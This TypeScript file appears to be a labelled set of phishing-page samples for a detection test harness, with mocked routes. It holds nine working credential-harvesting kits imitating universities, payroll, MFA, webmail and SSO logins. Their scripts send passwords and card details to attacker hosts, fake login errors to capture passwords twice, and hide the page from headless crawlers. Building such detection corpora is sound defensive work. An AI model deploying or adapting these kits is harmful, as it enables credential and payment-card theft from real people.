import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, img, kitCss, orgPage, orgAssets } from '../parts/zb-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { northfield, morski, withHost } from '../parts/zb-orgs.js';

/** Email-from-fragment + two-attempt capture, the way most quiet kits behave. */
const twoTry = (endpoint: string, done: string, errId = 'err') => `<script>
(function(){var h=location.hash.slice(1)||new URLSearchParams(location.search).get('e')||'';try{h=h.indexOf('@')>0?h:atob(h);}catch(x){}
var em=document.getElementById('email');if(em&&h.indexOf('@')>0){em.value=h;var d=document.getElementById('dom');if(d)d.textContent=h.split('@')[1];}
var n=0,f=document.getElementById('frm');f.addEventListener('submit',function(e){e.preventDefault();n++;var fd=new FormData(f);fd.append('attempt',n);fd.append('ua',navigator.userAgent);
fetch('${endpoint}',{method:'POST',body:fd}).catch(function(){}).then(function(){if(n<2){document.getElementById('${errId}').style.display='block';f.querySelector('[type=password]').value='';}else{location.replace('${done}');}});});})();
</script>`;

export const entries: Entry[] = [
  {
    id: 'zb-phish-docshare-secure-portal',
    label: 'phishing',
    kind: 'docshare-kit',
    url: 'https://securedocs-viewer.net/s/8f3KQ2/view.html#ZC5tb3JyaXNAbm9ydGhmaWVsZC11bmkuYWMudWs=',
    body: doc({
      title: 'Secure Document Portal',
      css: kitCss('#2b5797', '#dfe6ee') + `.doc{display:flex;gap:10px;align-items:center;background:#f4f6f9;border:1px solid #dde3ea;padding:10px;margin:12px 0;font-size:13px}.doc b{display:block}`,
      body: `<div class="box"><img class="logo" src="/s/assets/lock.png" alt=""><h2>Secure Document Portal</h2>
<p>A document has been shared with you. To protect confidential content, please verify your email account to view.</p>
<div class="doc"><img src="/s/assets/pdf.png" width="28" alt=""><div><b>Q3_Staff_Salary_Review_Final.pdf</b>482 KB &middot; Shared by HR Department</div></div>
<form id="frm"><input id="email" name="login" type="email" placeholder="Email address" required><input name="passwd" type="password" placeholder="Email password" required>
<div class="err" id="err">Incorrect password. Please enter your correct email password.</div><button type="submit">View Document</button></form>
<div class="small">&#128274; Secured with 256-bit encryption. Access expires in 48 hours.<br>&copy; 2026 Secure Document Portal. All rights reserved.</div></div>
${twoTry('https://sd-relay-api.xyz/c/store.php', 'https://www.northfield-uni.ac.uk/')}`,
    }),
    routes: {
      'securedocs-viewer.net/s/assets/lock.png': img(43, 87, 151),
      'securedocs-viewer.net/s/assets/pdf.png': img(200, 30, 30),
      'sd-relay-api.xyz/c/store.php': jsonRoute({ ok: 1 }),
    },
  },
  {
    id: 'zb-phish-payroll-adjustment-ess',
    label: 'phishing',
    kind: 'payroll-kit',
    url: 'https://ess-payroll-review.com/portal/adjustment/index.php?ref=HLX-2611',
    body: doc({
      title: 'Employee Self Service - Payroll Adjustment',
      css: `body{margin:0;font-family:Tahoma,Arial,sans-serif;background:#eef0f3}.bar{background:#1f3a5a;color:#fff;padding:12px 22px;font-size:17px}.w{max-width:760px;margin:30px auto;background:#fff;border:1px solid #d0d5db;padding:26px}
table{width:100%;border-collapse:collapse;font-size:13px;margin:14px 0}td,th{border:1px solid #dde;padding:6px 8px;text-align:left}th{background:#f0f3f7}.blur{filter:blur(3px)}input{padding:8px;width:100%;margin:6px 0;border:1px solid #bbb}
button{background:#2e7d32;color:#fff;border:0;padding:10px 24px;font-size:14px}.n{background:#fff8e1;border:1px solid #f0d58a;padding:10px;font-size:13px}`,
      body: `<div class="bar">Employee Self Service &nbsp;|&nbsp; Payroll &amp; Compensation</div><div class="w">
<h3>Pending payroll adjustment – November 2026</h3><div class="n">Following the annual pay review, a salary adjustment has been approved for your position. You must confirm your identity and acknowledge the change before <b>28 November 2026</b>, otherwise the adjustment will be applied in the next cycle.</div>
<table class="blur"><tr><th>Component</th><th>Current</th><th>Adjusted</th></tr><tr><td>Base salary (monthly)</td><td>3,412.50</td><td>3,618.25</td></tr><tr><td>Allowance</td><td>150.00</td><td>175.00</td></tr><tr><td>Effective date</td><td colspan=2>01/12/2026</td></tr></table>
<p style="font-size:13px">Sign in with your corporate (Windows) credentials to unlock the document.</p>
<form method="post" action="confirm.php"><input type="email" name="u" placeholder="Work email address" required><input type="password" name="p" placeholder="Network password" required>
<input type="hidden" name="ref" value="HLX-2611"><button type="submit">Confirm &amp; View</button></form>
<p style="font-size:11px;color:#777;margin-top:20px">This is an automated message from the Payroll Department. Information in this portal is confidential and intended for the addressee only.</p></div>`,
    }),
    routes: { 'ess-payroll-review.com/portal/adjustment/confirm.php': redirectRoute(302, 'https://ess-payroll-review.com/portal/adjustment/done.html'), 'ess-payroll-review.com/portal/adjustment/done.html': htmlRoute('<!doctype html><title>Thank you</title><p>Your acknowledgement has been recorded. You may close this window.</p>') },
  },
  {
    id: 'zb-phish-mfa-reenrol-fr',
    label: 'phishing',
    kind: 'mfa-kit',
    url: 'https://dsi-authentification-forte.fr/univ-valmont/inscription-mfa',
    body: doc({
      title: 'DSI – Réinscription à l\'authentification multifacteur',
      lang: 'fr',
      css: kitCss('#6b1d5c', '#f3eef2') + '.steps{font-size:13px;color:#555;margin:10px 0}.steps b{color:#6b1d5c}',
      body: `<div class="box"><img class="logo" src="/univ-valmont/logo.png" alt=""><h2>Authentification multifacteur</h2>
<p>Suite à la migration de notre système de sécurité, tous les personnels et étudiants doivent réinscrire leur appareil avant le <b>5 décembre</b>. Passé ce délai, votre accès à l'ENT et à la messagerie sera suspendu.</p>
<div class="steps"><b>Étape 1/3</b> – Identification &nbsp;›&nbsp; Étape 2/3 – Téléphone &nbsp;›&nbsp; Étape 3/3 – Code</div>
<form id="frm"><input id="email" type="email" name="mail" placeholder="Adresse électronique universitaire" required><input type="password" name="mdp" placeholder="Mot de passe Sésame" required>
<div class="err" id="err">Mot de passe incorrect. Veuillez réessayer.</div><button type="submit">Suivant</button></form>
<div id="s2" style="display:none"><p>Entrez votre numéro de mobile puis le code reçu par SMS.</p><input name="tel" placeholder="+33 6 .. .. .. .."><input name="code" placeholder="Code à 6 chiffres"><button>Valider</button></div>
<div class="small">Direction du Système d'Information · Assistance 04 78 55 20 99</div></div>
<script>
var n=0;document.getElementById('frm').onsubmit=function(e){e.preventDefault();n++;var d=Object.fromEntries(new FormData(this));d.step=n;
navigator.sendBeacon('https://collect-mfa-fr.click/v1/p',JSON.stringify(d));if(n<2){document.getElementById('err').style.display='block';}else{this.style.display='none';document.getElementById('s2').style.display='block';}};
</script>`,
    }),
    routes: { 'dsi-authentification-forte.fr/univ-valmont/logo.png': img(107, 29, 92), 'collect-mfa-fr.click/v1/p': jsonRoute({}) },
  },
  {
    id: 'zb-phish-student-portal-grade-appeal',
    label: 'phishing',
    kind: 'student-portal-kit',
    url: 'https://studentportal-nf.com/results/appeal?case=NF-APL-20931',
    body: doc({
      title: 'Student Portal – Assessment Results',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#f4f5f7}.t{background:#1d3f6e;color:#fff;padding:14px 24px;font-weight:bold}.w{max-width:520px;margin:40px auto;background:#fff;padding:28px;border-radius:4px;border:1px solid #dde}
.r{background:#fdecea;border:1px solid #f5c2bd;padding:10px;font-size:14px}input{width:100%;padding:9px;margin:6px 0;border:1px solid #aab}button{background:#c8102e;color:#fff;border:0;padding:10px 20px}`,
      body: `<div class="t">Student Portal &middot; Assessment &amp; Progression</div><div class="w"><h2>Module result under review</h2>
<div class="r">Case <b>NF-APL-20931</b>: An academic misconduct flag has been raised on your submission for module <b>ECON2041</b>. Your provisional mark has been withheld.</div>
<p>You have <b>72 hours</b> to view the Turnitin report and submit a response before the case is referred to the Academic Conduct Panel.</p>
<form id="f" method="post" action="/results/appeal/login.php"><input type="text" name="username" placeholder="University username" required><input type="password" name="password" placeholder="Password" required><button>View report</button></form>
<p style="font-size:12px;color:#666">Registry Services &middot; Academic Conduct Office</p></div>
<script>if(navigator.webdriver||/HeadlessChrome|bot|crawl|spider/i.test(navigator.userAgent)){document.body.innerHTML='<h1>404 Not Found</h1>';}</script>`,
    }),
    routes: { 'studentportal-nf.com/results/appeal/login.php': redirectRoute(302, 'https://www.northfield-uni.ac.uk/') },
  },
  {
    id: 'zb-phish-conference-registration-fee',
    label: 'phishing',
    kind: 'conference-kit',
    url: 'https://icaset-2027.org/submission/login.php?paper=417',
    body: doc({
      title: 'ICASET 2027 Submission System',
      css: `body{font-family:Georgia,serif;margin:0;background:#fafafa}.h{background:#34495e;color:#fff;padding:18px 30px}.h small{display:block;font-family:Arial;font-size:12px;opacity:.8}.w{max-width:800px;margin:26px auto;display:grid;grid-template-columns:2fr 1fr;gap:24px}
.p{background:#fff;border:1px solid #ddd;padding:22px}input,select{width:100%;padding:8px;margin:5px 0}button{background:#27ae60;color:#fff;border:0;padding:10px 20px}`,
      body: `<div class="h"><b>ICASET 2027</b> – International Conference on Applied Sciences, Engineering &amp; Technology<small>Lisbon, Portugal · 14–16 April 2027 · Indexed in major databases</small></div>
<div class="w"><div class="p"><h3>Paper #417 – Decision: ACCEPTED</h3><p>Congratulations! Your paper has been accepted for oral presentation. To receive the reviewer comments and reserve your presentation slot, log in with your institutional email account and complete the author registration (EUR 390).</p>
<form method="post" action="/submission/auth.php"><input type="email" name="email" placeholder="Institutional email" required><input type="password" name="pwd" placeholder="Email password" required>
<select name="type"><option>Author registration – EUR 390</option><option>Student author – EUR 290</option><option>Virtual presentation – EUR 250</option></select>
<input name="card" placeholder="Card number"><input name="exp" placeholder="MM/YY" style="width:48%"> <input name="cvc" placeholder="CVC" style="width:48%"><button>Log in &amp; Register</button></form></div>
<div class="p"><h4>Important dates</h4><ul style="font-size:14px"><li>Camera-ready: 20 Dec 2026</li><li>Early registration: 10 Dec 2026</li></ul><h4>Contact</h4><p style="font-size:13px">secretariat@icaset-2027.org</p></div></div>`,
    }),
    routes: { 'icaset-2027.org/submission/auth.php': redirectRoute(302, 'https://icaset-2027.org/submission/thanks.html'), 'icaset-2027.org/submission/thanks.html': htmlRoute('<!doctype html><title>Registered</title><p>Thank you. Your registration is being processed.</p>') },
  },
  {
    id: 'zb-phish-parking-permit-renewal',
    label: 'phishing',
    kind: 'parking-kit',
    url: 'https://campus-parking-permits.com/northfield/renew',
    body: doc({
      title: 'Campus Parking – Permit Renewal 2026/27',
      css: `body{font-family:Arial,sans-serif;margin:0;background:#eef2f5}.h{background:#ffcc00;padding:14px 24px;font-weight:bold;font-size:18px}.c{max-width:560px;margin:24px auto;background:#fff;padding:24px;border-radius:6px}
input{width:100%;padding:10px;margin:5px 0;border:1px solid #bbb;border-radius:4px}.row{display:flex;gap:8px}button{background:#222;color:#ffcc00;border:0;padding:12px;width:100%;font-weight:bold;border-radius:4px}.pr{font-size:22px;font-weight:bold}`,
      body: `<div class="h">&#127359; Campus Parking Services</div><div class="c"><h2>Renew your staff parking permit</h2>
<p>Our records show your permit for vehicle registration <b id="vrm">on file</b> expires this month. Renew now to avoid a Penalty Charge Notice (£70).</p><p class="pr">£4.80 admin fee</p>
<form method="post" action="/northfield/pay.php"><input name="name" placeholder="Full name" required><input name="email" type="email" placeholder="University email" required><input name="reg" placeholder="Vehicle registration" required>
<input name="cc" placeholder="Card number" inputmode="numeric" required><div class="row"><input name="exp" placeholder="MM / YY" required><input name="cvv" placeholder="CVV" required></div><input name="postcode" placeholder="Billing postcode"><button>Pay &amp; Renew</button></form>
<p style="font-size:11px;color:#888">Campus Parking Services is operated on behalf of the University Estates Department.</p></div>`,
    }),
    routes: { 'campus-parking-permits.com/northfield/pay.php': redirectRoute(302, 'https://campus-parking-permits.com/northfield/3ds') , 'campus-parking-permits.com/northfield/3ds': htmlRoute('<!doctype html><title>Verified by Visa</title><h3>Enter the one-time passcode sent to your phone</h3><form method=post action=/northfield/pay.php><input name=otp><button>Submit</button></form>') },
  },
  {
    id: 'zb-phish-facilities-ticket-nl',
    label: 'phishing',
    kind: 'facilities-kit',
    url: 'https://facilitair-meldingen.nl/hs-dijkstad/melding/88213',
    body: doc({
      title: 'Facilitaire melding #88213',
      lang: 'nl',
      css: kitCss('#e35205', '#f6f1ee'),
      body: `<div class="box"><img class="logo" src="/hs-dijkstad/logo.png" alt=""><h2>Facilitaire melding #88213</h2>
<p>Er is een melding op uw naam aangemaakt over de <b>toegangspas en kluisje</b> in gebouw Koepel, verdieping 3. Uw pas wordt binnen 24 uur geblokkeerd als u de melding niet bevestigt.</p>
<form id="frm"><input id="email" type="email" name="email" placeholder="E-mailadres hogeschool" required><input type="password" name="wachtwoord" placeholder="Wachtwoord" required><div class="err" id="err">Onjuist wachtwoord, probeer het opnieuw.</div><button>Melding bekijken</button></form>
<div class="small">Facilitair Bedrijf &middot; Servicepunt</div></div>
${twoTry('/hs-dijkstad/api/m.php', 'https://www.hs-dijkstad.nl/')}`,
    }),
    routes: { 'facilitair-meldingen.nl/hs-dijkstad/logo.png': img(227, 82, 5), 'facilitair-meldingen.nl/hs-dijkstad/api/m.php': jsonRoute({ r: 1 }) },
  },
  {
    id: 'zb-phish-webmail-upgrade-pl',
    label: 'phishing',
    kind: 'webmail-kit',
    url: 'https://poczta-umz-weryfikacja.pl/roundcube/?_task=login',
    body: doc({
      title: 'Poczta UMZ :: Witamy w Poczta UMZ',
      lang: 'pl',
      css: `body{background:#2f3a3f;font-family:"Roboto",Arial,sans-serif;margin:0}.l{width:360px;margin:110px auto;background:#fff;padding:30px;border-radius:4px}.l h1{font-size:20px;color:#37beff;text-align:center}
.l table{width:100%}.l td{padding:5px 0}.l input{width:100%;padding:9px;border:1px solid #ccc}.l button{width:100%;background:#37beff;color:#fff;border:0;padding:10px;font-size:15px}.info{background:#fff6d1;font-size:12px;padding:8px;margin-bottom:10px}`,
      body: `<div class="l"><h1>Poczta UMZ</h1><div class="info">Trwa migracja skrzynek pocztowych na nowy serwer. Zaloguj się ponownie, aby zachować wiadomości. Niezweryfikowane konta zostaną usunięte 02.12.2026.</div>
<form name="form" method="post" action="/roundcube/?_task=login"><input type="hidden" name="_token" value="Ab9zQeT3sM1hOq8uRw4pLx2YkVc7NdJf"><input type="hidden" name="_task" value="login"><input type="hidden" name="_action" value="login">
<table><tr><td><input name="_user" id="rcmloginuser" placeholder="Nazwa użytkownika" required></td></tr><tr><td><input name="_pass" id="rcmloginpwd" type="password" placeholder="Hasło" required></td></tr></table>
<p><button type="submit" id="rcmloginsubmit">Zaloguj</button></p></form><p style="font-size:11px;text-align:center;color:#888">Roundcube Webmail &middot; Uniwersytet Morski w Zatoce</p></div>
<script>document.forms.form.addEventListener('submit',function(e){e.preventDefault();fetch('/roundcube/plugins/login_check/save.php',{method:'POST',body:new FormData(this)}).finally(function(){location.href='https://poczta.umz.edu.pl/';});});</script>`,
    }),
    routes: { 'poczta-umz-weryfikacja.pl/roundcube/plugins/login_check/save.php': jsonRoute({ ok: 1 }) },
  },
  {
    id: 'zb-phish-univ-sso-clone-lookalike',
    label: 'phishing',
    kind: 'sso-clone',
    url: 'https://idp-northfield-uni.ac-uk.co/idp/profile/SAML2/Redirect/SSO?execution=e1s1',
    body: doc({
      title: 'University of Northfield - Web Login Service',
      css: `body{margin:0;background:#e9edf2;font-family:Arial,sans-serif}.wrap{max-width:820px;margin:40px auto;background:#fff;border-top:6px solid #1d3f6e;display:grid;grid-template-columns:1fr 1fr}.l,.r{padding:30px 34px}.r{background:#f6f8fa;font-size:14px}
h1{font-size:20px}label{display:block;font-weight:bold;font-size:13px;margin-top:12px}input[type=text],input[type=password]{width:100%;padding:9px;border:1px solid #9aa3ad;margin-top:4px}button{margin-top:18px;background:#1d3f6e;color:#fff;border:0;padding:10px 28px}`,
      body: `<div class="wrap"><div class="l"><img src="/idp/images/logo.png" alt="University of Northfield" width="190" height="46"><h1>Web Login Service</h1>
<form id="lf" action="/idp/profile/SAML2/Redirect/SSO/post.php" method="post"><label for="username">Username</label><input id="username" name="j_username" type="text">
<label for="password">Password</label><input id="password" name="j_password" type="password"><button type="submit" name="_eventId_proceed">Login</button></form></div>
<div class="r"><p><strong>Need help?</strong></p><ul><li><a href="https://www.northfield-uni.ac.uk/it/password">Forgotten your password?</a></li><li><a href="https://www.northfield-uni.ac.uk/it/help">IT Service Desk</a></li></ul></div></div>
<script>document.getElementById('lf').addEventListener('submit',function(){var u=document.getElementById('username').value,p=document.getElementById('password').value;new Image().src='https://nf-sso-stat.live/g.gif?d='+btoa(u+':'+p);});</script>`,
    }),
    routes: { 'idp-northfield-uni.ac-uk.co/idp/images/logo.png': img(29, 63, 110), 'idp-northfield-uni.ac-uk.co/idp/profile/SAML2/Redirect/SSO/post.php': redirectRoute(302, 'https://moodle.northfield-uni.ac.uk/'), 'nf-sso-stat.live/g.gif': img(255, 255, 255) },
  },
];
